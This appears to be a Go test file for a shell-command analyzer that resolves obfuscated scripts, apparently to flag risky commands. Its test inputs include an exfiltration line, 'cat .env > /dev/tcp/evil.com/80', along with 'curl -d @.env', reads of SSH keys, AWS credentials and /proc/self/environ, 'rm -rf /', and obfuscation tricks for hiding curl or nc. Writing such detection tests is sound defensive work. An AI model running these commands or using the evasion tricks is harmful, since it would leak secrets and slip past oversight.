		{name: "Toplevel", script: `cat "$(git rev-parse --show-toplevel)/.env"`, want: []string{": cat /work/repo/.env", "$(...): git rev-parse --show-toplevel"}},
		{name: "ToplevelOutsideRepo", script: `cd /tmp && cat "$(git rev-parse --show-toplevel)/.env"`, want: []string{": cd /tmp", `: cat "$(git rev-parse --show-toplevel)/.env"`, "$(...): git rev-parse --show-toplevel"},
			check: func(t *testing.T, an Analysis) {
				if w := an.Commands[1].Args[0]; !w.Dynamic || len(w.Values) != 0 {
					t.Errorf("word %+v: the repository of /tmp is not known", w)
				}
			}},
		// Parameter expansion operators on known values.
		{name: "Slice", script: `a=xcurlx; ${a:1:4} x`, want: []string{": curl x"}},
		{name: "SliceNegative", script: `a=wgetcurl; ${a: -4} x`, want: []string{": curl x"}},
		{name: "SliceNoLength", script: `a=xxcat; ${a:2} .env`, want: []string{": cat .env"}},
		{name: "ReplaceFirst", script: `f=.exv; cat ${f/x/n}`, want: []string{": cat .env"}},
		{name: "ReplaceAll", script: `f=.exx; cat ${f//x/n}`, want: []string{": cat .enn"}},
		{name: "ReplaceAnchored", script: `w=xurl; ${w/#x/c} y`, want: []string{": curl y"}},
		{name: "ReplaceSuffix", script: `w=curX; ${w/%X/l} y`, want: []string{": curl y"}},
		{name: "Lower", script: `v=.ENV; cat "${v,,}" "${v@L}"`, want: []string{": cat .env .env"}},
		{name: "UpperFirst", script: `v=makefile; cat ${v^}`, want: []string{": cat Makefile"}},
		{name: "Escape", script: `v='\x2eenv'; cat "${v@E}"`, want: []string{": cat .env"}},
		{name: "RemoveSuffix", script: `f=main.go; echo ${f%.go} ${f%%.*}`, want: []string{": echo main main"}},
		{name: "RemovePrefix", script: `p=a/b/c; echo ${p#*/} ${p##*/}`, want: []string{": echo b/c c"}},
		{name: "Indirect", script: `n=F; F=.env; cat "${!n}"`, want: []string{": cat .env"}},
		{name: "IndirectUnknown", script: `v=GITHUB_TOKEN; echo "${!v}"`, want: []string{`: echo "${!v}"`}},
		{name: "SliceOfUnknown", script: `echo ${X:1:2}`, want: []string{`: echo ${X:1:2}`}},
		{name: "IFSComma", script: `IFS=,; c="curl,-d,@.env"; $c`, want: []string{": curl -d @.env"}},
		{name: "ReadHereString", script: `read -r f <<< '.env'; cat "$f"`, want: []string{": read -r f", `: cat "$f"`}, check: vals(1, 0, ".env")},
		{name: "ReadHereDoc", script: "read -r p <<'X'\n/srv/key\nX\ncat \"$p\"", want: []string{": read -r p", `: cat "$p"`}, check: vals(1, 0, "/srv/key")},
		{name: "Nameref", script: `declare -n r=F; F=.env; cat "$r"`, want: []string{": declare -n r=F", ": cat .env"}},
		{name: "NamerefDynamic", script: `declare -n r="$1"; cat "$r"`, want: []string{`: declare -n r="$1"`, `: cat "$r"`}},
		{name: "ArrayAll", script: `a=(cat .env); "${a[@]}"`, want: []string{": cat .env"}},
		{name: "ArrayStarIFS", script: `p=(/srv .aws credentials); IFS=/; cat "${p[*]}"`, want: []string{": cat /srv/.aws/credentials"}},
		{name: "ArrayAppended", script: `a=(ls); a+=(cat .env); "${a[@]}"`, want: []string{`?: "${a[@]}"`}},
		{name: "ArrayElementComputed", script: `a=("$1" x); "${a[@]}"`, want: []string{`?: "${a[@]}"`}},
		{name: "ExtGlob", script: `shopt -s extglob; cat .@(env|envrc)`, want: []string{": shopt -s extglob", ": cat .env"}, check: vals(1, 0, ".env", ".envrc")},
		{name: "ExtGlobNegated", script: `shopt -s extglob; ls !(*.go)`, want: []string{": shopt -s extglob", ": ls *"}},
		{name: "XargsArgFileAlone", script: `xargs -0 -a /proc/self/environ`, want: []string{": xargs -0 -a /proc/self/environ"},
			check: func(t *testing.T, an Analysis) {
				if rs := an.Commands[0].Redirects; len(rs) != 1 || rs[0].Op != "xargs -a" || !rs[0].Read {
					t.Errorf("redirects = %+v, want the -a file read", rs)
				}
			}},
		{name: "Mktemp", script: `d=$(mktemp -d); rm -r "$d"`, want: []string{"$(...): mktemp -d", ": rm -r /tmp/tmp.XXXXXXXXXX"}},
		{name: "MktempTemplate", script: `f=$(mktemp /tmp/build.XXXX); cat "$f"`, want: []string{"$(...): mktemp /tmp/build.XXXX", ": cat /tmp/build.XXXX"}},
		{name: "MktempDirOption", script: `d=$(mktemp -p /srv); rm -r "$d"`, want: []string{"$(...): mktemp -p /srv", `: rm -r "$d"`}},
		{name: "Dirname", script: `cat $(dirname src/app/main.go)/../.env`, want: []string{": cat src/app/../.env", "$(...): dirname src/app/main.go"}},
		{name: "DirnameOfPwd", script: `cat "$(dirname "$PWD")/.npmrc"`, want: []string{": cat /work/.npmrc", "$(...): dirname /work/repo"}},
		{name: "Basename", script: `cat ~/.ssh/$(basename /tmp/id_rsa.pub .pub)`, want: []string{": cat /home/dev/.ssh/id_rsa", "$(...): basename /tmp/id_rsa.pub .pub"}},
		{name: "Realpath", script: `cat "$(realpath ../repo/.env)"`, want: []string{": cat /work/repo/.env", "$(...): realpath ../repo/.env"}},
		{name: "ReadlinkF", script: `cat $(readlink -f ./.env)`, want: []string{": cat /work/repo/.env", "$(...): readlink -f ./.env"}},
		{name: "ReadlinkPlain", script: `cat $(readlink x)`, want: []string{": cat $(readlink x)", "$(...): readlink x"}},
		{name: "Oldpwd", script: `cd /tmp && cat $OLDPWD/.env`, want: []string{": cd /tmp", ": cat /work/repo/.env"}},
		{name: "OldpwdUnknown", script: `cat $OLDPWD/.env`, want: []string{": cat $OLDPWD/.env"}},
		{name: "TildeMinus", script: `cd /tmp; cat ~-/.env`, want: []string{": cd /tmp", ": cat /work/repo/.env"}},
		{name: "CdMinus", script: `cd /tmp; cd -; cat .env`, want: []string{": cd /tmp", ": cd -", ": cat .env"},
			check: func(t *testing.T, an Analysis) {
				if got := an.Commands[2].Cwds; !slices.Equal(got, []string{"/work/repo", "/tmp"}) {
					t.Errorf("cwds %q", got)
				}
			}},
		{name: "Env", script: `echo $USER; $EDITOR f`, want: []string{": echo dev", ": vim f"}},
		{name: "Unknown", script: `rm -rf $TARGET/`, want: []string{": rm -rf $TARGET/"},
			check: func(t *testing.T, an Analysis) {
				w := an.Commands[0].Args[1]
				if !w.Dynamic || len(w.Values) != 0 {
					t.Errorf("word %+v", w)
				}
			}},
		{name: "Brace", script: `cp .env{,.bak}`, want: []string{": cp .env .env.bak"}, check: vals(0, 1, ".env.bak")},
		{name: "BraceTwo", script: `cat .{env,bak}`, want: []string{": cat .env .bak"}, check: vals(0, 1, ".bak")},
		{name: "TildeUserValue", script: `cat ~dev/.ssh/id_ed25519`, want: []string{": cat ~dev/.ssh/id_ed25519"}, check: vals(0, 0, "~dev/.ssh/id_ed25519")},
		{name: "TildeNotUser", script: `cat ~$X/y`, want: []string{": cat ~$X/y"}},
		{name: "BraceProgram", script: `{cat,.env}`, want: []string{": cat .env"}, derived: true},
		{name: "BraceGitForce", script: `{git,push,--force}`, want: []string{": git push --force"}, derived: true},
		{name: "BraceSeq", script: `touch f{1..3}`, want: []string{": touch f1 f2 f3"}, check: vals(0, 2, "f3")},
		{name: "BraceHuge", script: `echo {1..1000000000}`, want: []string{": echo {1..1000000000}"},
			check: func(t *testing.T, an Analysis) {
				w := an.Commands[0].Args[0]
				if len(w.Values) != maxValues || !w.Dynamic {
					t.Errorf("%d values, dynamic %v", len(w.Values), w.Dynamic)
				}
			}},
		{name: "BraceProduct", script: `echo {a,b}{c,d}{e,f}{g,h}{i,j}{k,l}{m,n}{o,p}`, want: []string{": echo {a,b}{c,d}{e,f}{g,h}{i,j}{k,l}{m,n}{o,p}"},
			check: func(t *testing.T, an Analysis) {
				if w := an.Commands[0].Args[0]; len(w.Values) > maxValues || !w.Dynamic {
					t.Errorf("%d values, dynamic %v", len(w.Values), w.Dynamic)
				}
			}},
		{name: "BraceLetters", script: `echo {a..c}`, want: []string{": echo a b c"}, check: vals(0, 2, "c")},
		{name: "Var", script: `X=curl; $X -s y`, want: []string{": curl -s y"}},
		{name: "Export", script: `export X=wget; $X y`, want: []string{": export X=wget", ": wget y"}},
		{name: "Local", script: `f() { local P=rm; $P -rf x; }`, want: []string{"function f: local P=rm", "function f: rm -rf x"}},
		{name: "DeclareReadonlyTypeset", script: `declare A=a; readonly B=b; typeset C=c; echo $A$B$C`, want: []string{": declare A=a", ": readonly B=b", ": typeset C=c", ": echo abc"}},
		{name: "PrefixAssign", script: `P=nc; X=1 $P -l 80`, want: []string{": nc -l 80"}},
		{name: "VarChain", script: `A=cu; B=${A}rl; $B x`, want: []string{": curl x"}},
		{name: "VarSeveral", script: `if x; then T=curl; else T=wget; fi; $T y`, want: []string{": x", ": curl y", ": wget y"}},
		{name: "VarArgSeveral", script: `D=/tmp; D=/etc; rm -rf $D`, want: []string{": rm -rf /tmp"}, check: vals(0, 1, "/tmp", "/etc")},
		{name: "VarDefault", script: `${CMD:-curl} x`, want: []string{": curl x", "?: ${CMD:-curl} x"}},
		{name: "VarDefaultKnown", script: `echo ${USER:-nobody}`, want: []string{": echo dev"}, check: vals(0, 0, "dev", "nobody")},
		{name: "VarRead", script: `X=ls; read X; $X`, want: []string{": read X", ": ls", "?: $X"}},
		{name: "VarSplit", script: `C="curl -s"; $C x`, want: []string{": curl -s x"}},
		{name: "VarSplitArgs", script: `F="-rf /"; rm $F`, want: []string{": rm -rf /"}},
		{name: "VarQuotedNoSplit", script: `F="a b"; touch "$F"`, want: []string{": touch 'a b'"}},
		{name: "VarEmpty", script: `W=; $W curl x`, want: []string{": curl x"}},
		{name: "ForValues", script: `for c in curl wget; do $c x; done`, want: []string{": curl x", ": wget x"}},
		// PATH is exported already: setting it is reported, as a command
		// with no program that carries the assignment.
		{name: "SelfRef", script: `PATH=$PATH:/x; ls`, want: []string{": PATH=$PATH:/x", ": ls"}},
		{name: "BareAssignNotExported", script: `X=/tmp/x; ls`, want: []string{": ls"}},
		{name: "Positional", script: `$1 x`, want: []string{"?: $1 x"}},
		{name: "SubstEcho", script: `$(echo curl) x`, want: []string{": curl x", "$(...): echo curl"},
			check: func(t *testing.T, an Analysis) {
				if w := an.Commands[0].Name; !w.Subst || w.Dynamic {
					t.Errorf("name %+v", w)
				}
			}},
		{name: "SubstPrintf", script: `$(printf '%s' rm) -rf x`, want: []string{": rm -rf x", "$(...): printf %s rm"}},
		{name: "SubstPrintfEscape", script: "`printf '\\x63url'` x", want: []string{": curl x", "$(...): printf '\\x63url'"}, derived: true},
		{name: "SubstEchoE", script: `$(echo -e 'c\x75rl') x; $(echo -n wget) y`, want: []string{": curl x", "$(...): echo -e 'c\\x75rl'", ": wget y", "$(...): echo -n wget"}, derived: true},
		{name: "SubstOther", script: `$(which curl) x`, want: []string{"?: $(which curl) x", "$(...): which curl"}},
		{name: "Glob", script: `rm *.log ?.tmp [ab].txt`, want: []string{": rm *.log ?.tmp [ab].txt"},
			check: func(t *testing.T, an Analysis) {
				for _, w := range an.Commands[0].Args {
					if !w.Glob {
						t.Errorf("%q not Glob", w.Raw)
					}
				}
			}},
		{name: "GlobQuoted", script: `find . -name "*.go"`, want: []string{": find . -name '*.go'"},
			check: func(t *testing.T, an Analysis) {
				if an.Commands[0].Args[2].Glob {
					t.Error("quoted pattern is Glob")
				}
			}},
		{name: "GlobProgram", script: `/usr/bin/cu* x`, want: []string{"?: /usr/bin/cu* x"}},
		{name: "TestBracket", script: `[ -f x ] && echo y`, want: []string{": [ -f x ]", ": echo y"}},
		{name: "Arithmetic", script: `echo $((2+3))`, want: []string{": echo 5"}},
		{name: "PrintfDirectives", script: `X=$(printf '%s-%03d-%x%%' a 7 255); echo $X`, want: []string{"$(...): printf %s-%03d-%x%% a 7 255", ": echo a-007-ff%"},
			check: vals(1, 0, "a-007-ff%")},
		{name: "PrintfReuse", script: `printf '%s\n' curl wget | sh`, want: []string{`: printf '%s\n' curl wget`, "sh pipe: curl", "sh pipe: wget"}},
		{name: "PrintfUnknownDirective", script: `$(printf '%q' x) y`, want: []string{"?: $(printf '%q' x) y", "$(...): printf %q x"}},
		{name: "EchoEStop", script: `echo -e 'rm x\cignored' | sh`, want: []string{`: echo -e 'rm x\cignored'`, "sh pipe: rm x"}},
		{name: "AnsiCUnicode", script: `echo $'caf\u00e9\t!'`, want: []string{": echo 'café\t!'"}},
		{name: "NULByte", script: "cu\x00rl x", want: []string{": curl x"}, derived: true},
	})
}

func TestAnalyze_Programs(t *testing.T) {
	runCases(t, []tcase{
		{name: "AbsolutePath", script: `/usr/bin/curl x`, want: []string{": curl x"},
			check: func(t *testing.T, an Analysis) {
				if c := an.Commands[0]; c.Program != "curl" || c.Name.Raw != "/usr/bin/curl" {
					t.Errorf("program %q name %q", c.Program, c.Name.Raw)
				}
			}},
		{name: "Relative", script: `./curl x; ../bin/curl y`, want: []string{": curl x", ": curl y"}},
		{name: "Candidates", script: `for p in curl wget nc; do $p x; done`, want: []string{": curl x", ": wget x", ": nc x"}},
		{name: "CandidateWrapper", script: `W=sudo; $W rm x`, want: []string{"sudo: rm x"}},
		{name: "CandidateEmptyOrWrapper", script: `if a; then W=sudo; else W=; fi; $W rm x`, want: []string{": a", "sudo: rm x", ": rm x"}},
		{name: "Unresolvable", script: `$(curl x) y`, want: []string{"?: $(curl x) y", "$(...): curl x"},
			check: func(t *testing.T, an Analysis) {
				if c := an.Commands[0]; c.Program != "" || !c.Dynamic {
					t.Errorf("%+v", c)
				}
			}},
		{name: "DynamicInWrapper", script: `sudo $CMD`, want: []string{"?sudo: $CMD"}},
	})
}

func TestAnalyze_Redirects(t *testing.T) {
	redir := func(i int, want ...Redirect) func(*testing.T, Analysis) {
		return func(t *testing.T, an Analysis) {
			t.Helper()
			got := an.Commands[i].Redirects
			if len(got) != len(want) {
				t.Fatalf("redirects %+v, want %+v", got, want)
			}
			for j := range want {
				g, w := got[j], want[j]
				if g.Op != w.Op || g.Fd != w.Fd || g.Read != w.Read || g.Write != w.Write || g.Target.Raw != w.Target.Raw {
					t.Errorf("redirect %d: %+v, want %+v", j, g, w)
				}
			}
		}
	}
	runCases(t, []tcase{
		{name: "Out", script: `echo x > out.txt`, want: []string{": echo x"}, check: redir(0, Redirect{Op: ">", Write: true, Target: Word{Raw: "out.txt"}})},
		{name: "AppendErr", script: `make 2>> err.log`, want: []string{": make"}, check: redir(0, Redirect{Op: ">>", Fd: "2", Write: true, Target: Word{Raw: "err.log"}})},
		{name: "All", script: `make &> all.log`, want: []string{": make"}, check: redir(0, Redirect{Op: "&>", Write: true, Target: Word{Raw: "all.log"}})},
		{name: "Clobber", script: `echo x >| f`, want: []string{": echo x"}, check: redir(0, Redirect{Op: ">|", Write: true, Target: Word{Raw: "f"}})},
		{name: "ReadWrite", script: `cat <> f`, want: []string{": cat"}, check: redir(0, Redirect{Op: "<>", Read: true, Write: true, Target: Word{Raw: "f"}})},
		{name: "Dup", script: `make > log 2>&1`, want: []string{": make"}, check: redir(0, Redirect{Op: ">", Write: true, Target: Word{Raw: "log"}}, Redirect{Op: ">&", Fd: "2", Target: Word{Raw: "1"}})},
		{name: "DupFile", script: `make >& log`, want: []string{": make"}, check: redir(0, Redirect{Op: ">&", Write: true, Target: Word{Raw: "log"}})},
		{name: "DevTCP", script: `cat .env > /dev/tcp/evil.com/80`, want: []string{": cat .env"}, check: redir(0, Redirect{Op: ">", Write: true, Target: Word{Raw: "/dev/tcp/evil.com/80"}})},
		{name: "RedirOnlyRead", script: `< .env`, want: []string{": <.env"}, check: redir(0, Redirect{Op: "<", Read: true, Target: Word{Raw: ".env"}})},
		{name: "RedirOnlyWrite", script: `> out.txt`, want: []string{": >out.txt"}, check: redir(0, Redirect{Op: ">", Write: true, Target: Word{Raw: "out.txt"}})},
		{name: "Group", script: `{ cat; } < .env`, want: []string{"group: <.env", ": cat"}},
		{name: "While", script: `while read l; do echo $l; done < .env`, want: []string{"while: <.env", ": read l", ": echo $l"}},
		{name: "For", script: `for i in 1 2; do echo $i; done > x`, want: []string{"for: >x", ": echo 1"}},
		{name: "Subshell", script: `(cat a; cat b) > c`, want: []string{"subshell: >c", ": cat a", ": cat b"}},
		{name: "HeredocTarget", script: "cat <<EOF\nhi\nEOF", want: []string{": cat"},
			check: func(t *testing.T, an Analysis) {
				r := an.Commands[0].Redirects[0]
				if r.Read || r.Write || !slices.Equal(r.Target.Values, []string{"hi\n"}) {
					t.Errorf("%+v", r)
				}
			}},
		{name: "TargetHome", script: `echo x >> ~/.bashrc`, want: []string{": echo x"},
			check: func(t *testing.T, an Analysis) {
				if v := an.Commands[0].Redirects[0].Target.Values; !slices.Equal(v, []string{"/home/dev/.bashrc"}) {
					t.Errorf("values %q", v)
				}
			}},
		{name: "FunctionBody", script: `f() { echo x; } > log`, want: []string{"function f|group: >log", "function f: echo x"}},
	})
}

func TestAnalyze_Cwds(t *testing.T) {
	cwds := func(want ...[]string) func(*testing.T, Analysis) {
		return func(t *testing.T, an Analysis) {
			t.Helper()
			for i, w := range want {
				if !slices.Equal(an.Commands[i].Cwds, w) {
					t.Errorf("command %d cwds %q, want %q", i, an.Commands[i].Cwds, w)
				}
			}
		}
	}
	start := []string{"/work/repo"}
	runCases(t, []tcase{
		{name: "Cd", script: `cd /tmp && rm -rf x`, want: []string{": cd /tmp", ": rm -rf x"}, check: cwds(start, []string{"/work/repo", "/tmp"})},
		{name: "Relative", script: `cd ../other; ls`, want: []string{": cd ../other", ": ls"}, check: cwds(start, []string{"/work/repo", "/work/other"})},
		{name: "Home", script: `cd; ls; cd ~/x; ls`, want: []string{": cd", ": ls", ": cd /home/dev/x", ": ls"},
			check: cwds(start, []string{"/work/repo", "/home/dev"}, []string{"/work/repo", "/home/dev"}, []string{"/work/repo", "/home/dev", "/home/dev/x"})},
		{name: "Pushd", script: `pushd /etc; cat passwd`, want: []string{": pushd /etc", ": cat passwd"}, check: cwds(start, []string{"/work/repo", "/etc"})},
		{name: "Subshell", script: `(cd /a; ls); ls`, want: []string{": cd /a", ": ls", ": ls"}, check: cwds(start, []string{"/work/repo", "/a"}, []string{"/work/repo", "/a"})},
		{name: "Twice", script: `cd a; cd b; pwd`, want: []string{": cd a", ": cd b", ": pwd"}, check: cwds(start, []string{"/work/repo", "/work/repo/a"}, []string{"/work/repo", "/work/repo/a", "/work/repo/b", "/work/repo/a/b"})},
		{name: "OrExit", script: `cd build || exit 1; make`, want: []string{": cd build", ": exit 1", ": make"}, check: cwds(start, []string{"/work/repo", "/work/repo/build"}, []string{"/work/repo", "/work/repo/build"})},
		{name: "VarCd", script: `D=/srv; cd $D; ls`, want: []string{": cd /srv", ": ls"}, check: cwds(start, []string{"/work/repo", "/srv"})},
		{name: "NestedCd", script: `bash -c 'cd /opt && ls'`, want: []string{"bash -c: cd /opt", "bash -c: ls"}, check: cwds(start, []string{"/work/repo", "/opt"})},
		{name: "ProcCwd", script: `cd /proc/self/cwd/.. && ls`, want: []string{": cd /proc/self/cwd/..", ": ls"}, check: cwds(start, []string{"/work/repo", "/work"})},
		{name: "ProcRoot", script: `cd /proc/self/root/home/dev/.ssh; ls`, want: []string{": cd /proc/self/root/home/dev/.ssh", ": ls"}, check: cwds(start, []string{"/work/repo", "/home/dev/.ssh"})},
		{name: "EnvChdirProc", script: `env -C /proc/self/cwd/sub ls`, want: []string{"env: ls"}, check: cwds([]string{"/work/repo/sub"})},
	})
	t.Run("NoCwd", func(t *testing.T) {
		an := Analyze("cd /tmp; ls", Options{})
		for _, c := range an.Commands {
			if len(c.Cwds) != 0 {
				t.Errorf("cwds %q without Options.Cwd", c.Cwds)
			}
		}
	})
}

func TestAnalyze_Text(t *testing.T) {
	runCases(t, []tcase{
		{name: "Spaces", script: "git  push   --force", want: []string{": git push --force"},
			check: func(t *testing.T, an Analysis) {
				if w := an.Commands[0].Written; w != "git push --force" {
					t.Errorf("written %q", w)
				}
			}},
		{name: "Quotes", script: `git "push" '--force'`, want: []string{": git push --force"}},
		{name: "Tabs", script: "npm\trun\tbuild", want: []string{": npm run build"}},
		{name: "Continuation", script: "git push \\\n  origin main", want: []string{": git push origin main"}},
		{name: "NeedsQuotes", script: `echo "a b" 'it'"'"'s'`, want: []string{`: echo 'a b' 'it'\''s'`}},
		{name: "DynamicRaw", script: `echo "$X" done`, want: []string{`: echo "$X" done`}},
		{name: "WrittenAssigns", script: `FOO=1  make`, want: []string{": make"},
			check: func(t *testing.T, an Analysis) {
				if w := an.Commands[0].Written; w != "FOO=1 make" {
					t.Errorf("written %q", w)
				}
			}},
	})
}

func TestAnalyze_Positions(t *testing.T) {
	an := Analyze("ls\n  echo $(id)\nbash -c 'curl x; wget y'", testOpts)
	want := [][2]int{{1, 1}, {2, 3}, {2, 10}, {3, 1}, {3, 1}}
	if len(an.Commands) != len(want) {
		t.Fatalf("%s", dump(an))
	}
	for i, w := range want {
		if c := an.Commands[i]; c.Line != w[0] || c.Col != w[1] {
			t.Errorf("command %d (%s) at %d:%d, want %d:%d", i, c.Text, c.Line, c.Col, w[0], w[1])
		}
	}
}

func TestAnalyze_ParseError(t *testing.T) {
	for _, s := range []string{`echo "unterminated`, `if true; then`, `ls; (`, `foo )`, `case x in`} {
		an := Analyze(s, testOpts)
		if an.ParseError == nil {
			t.Errorf("%q: no ParseError", s)
		}
		checkInvariants(t, s, testOpts, an)
	}
	an := Analyze("curl x; wget y\nif", testOpts)
	if an.ParseError == nil || len(an.Commands) < 2 || an.Commands[0].Program != "curl" {
		t.Errorf("recovery: %s", dump(an))
	}
}

func TestAnalyze_Limits(t *testing.T) {
	t.Run("ManyCommands", func(t *testing.T) {
		an := Analyze(strings.Repeat("a;", 20000), testOpts)
		if len(an.Commands) != maxCommands+1 || !an.Commands[maxCommands].Dynamic {
			t.Errorf("%d commands", len(an.Commands))
		}
	})
	t.Run("DeepParens", func(t *testing.T) {
		s := strings.Repeat("(", 100000) + "x" + strings.Repeat(")", 100000)
		an := Analyze(s, testOpts)
		if an.ParseError == nil || len(an.Commands) != 1 || !an.Commands[0].Dynamic {
			t.Errorf("deep nesting: %d commands, err %v", len(an.Commands), an.ParseError)
		}
	})
	t.Run("DeepSubst", func(t *testing.T) {
		s := strings.Repeat("$(echo ", 900) + "x" + strings.Repeat(")", 900)
		an := Analyze(s, testOpts)
		checkInvariants(t, "deep subst", testOpts, an)
	})
	t.Run("DeepEval", func(t *testing.T) {
		s := "x"
		for range 12 {
			s = "eval " + quoteForTest(s)
		}
		an := Analyze(s, testOpts)
		if len(an.Commands) != 1 || !an.Commands[0].Dynamic || !slices.Contains(an.Commands[0].Via, viaDepth) {
			t.Errorf("%s", dump(an))
		}
	})
	t.Run("MaxDepthOption", func(t *testing.T) {
		an := Analyze(`bash -c "bash -c 'ls'"`, Options{MaxDepth: 1})
		if len(an.Commands) != 1 || !an.Commands[0].Dynamic {
			t.Errorf("%s", dump(an))
		}
	})
	t.Run("Large", func(t *testing.T) {
		s := "cat <<'EOF'\n" + strings.Repeat("some text line with words do if\n", 32<<10) + "EOF\n" + strings.Repeat("echo hi; ", 10000)
		an := Analyze(s, testOpts)
		if an.ParseError != nil || len(an.Commands) != maxCommands+1 {
			t.Errorf("%d commands, err %v", len(an.Commands), an.ParseError)
		}
	})
	t.Run("TooLarge", func(t *testing.T) {
		an := Analyze(strings.Repeat("a", maxScript+1), testOpts)
		if an.ParseError == nil || len(an.Commands) != 1 || !an.Commands[0].Dynamic {
			t.Errorf("%d commands, err %v", len(an.Commands), an.ParseError)
		}
	})
	t.Run("VarBlowup", func(t *testing.T) {
		s := "A=" + strings.Repeat("x", 1<<16) + "\n" + strings.Repeat("echo $A$A$A$A$A$A$A$A\n", 2000)
		an := Analyze(s, testOpts)
		checkInvariants(t, "var blowup", testOpts, an)
	})
	t.Run("CandidateBlowup", func(t *testing.T) {
		var b strings.Builder
		for i := range 64 {
			b.WriteString("X=bash\\ -c\\ $X" + string(rune('a'+i%26)) + "\n")
		}
		b.WriteString("$X\n")
		an := Analyze(b.String(), testOpts)
		checkInvariants(t, "candidate blowup", testOpts, an)
	})
}

// quoteForTest single-quotes s for a shell.
func quoteForTest(s string) string {
	return "'" + strings.ReplaceAll(s, "'", `'\''`) + "'"
}
